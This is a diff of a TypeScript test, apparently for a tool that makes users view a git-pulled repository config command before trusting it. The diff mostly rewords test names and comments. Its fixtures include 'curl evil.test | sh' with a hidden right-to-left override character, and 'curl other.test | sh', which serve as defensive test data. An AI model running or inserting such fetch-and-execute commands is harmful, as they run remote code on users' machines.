@@ -7,8 +7,8 @@ import { temporaryFolder } from "../helpers/temporary-folder.ts";
 const textOf = (ready: string) =>
   JSON.stringify({ config: { svc: { timeout: 30, services: { web: { ready, image: "node:24" } } } } });
 
-describeScreen("a command that a pull brings", () => {
-  test("is shown beside what serves, and can be trusted once it was shown, as what was shown", async () => {
+describeScreen("a command pulled with git", () => {
+  test("is shown next to the active value, and can be trusted only after that, and only the value that was shown", async () => {
     await using folder = await temporaryFolder();
     const path = join(folder.path, "site");
     const file = join(path, ".repoconf.json");
@@ -24,14 +24,14 @@ describeScreen("a command that a pull brings", () => {
     const [show, trust] = [/^Show ?: svc.services$/, /^Trust this value ?: svc.services$/].map(name =>
       note.getByRole("button", { name }),
     );
-    // What was not seen cannot be trusted.
+    // A value that was not shown cannot be trusted.
     expect(await trust?.getAttribute("aria-disabled")).toBe("true");
     await show?.click();
     const said = note.getByRole("figure", { name: "In the file" });
     await reads(said, "curl evil.test \\u202e| sh");
     await reads(note.getByRole("figure", { name: "Active" }), "{}");
 
-    // Another one comes before the button is pressed.
+    // The value changes before the button is pressed.
     await writeFile(file, textOf("curl other.test | sh"));
     await trust?.click();
     await reads(page.getByRole("log", { name: "Messages" }), "is no longer waiting for trust");
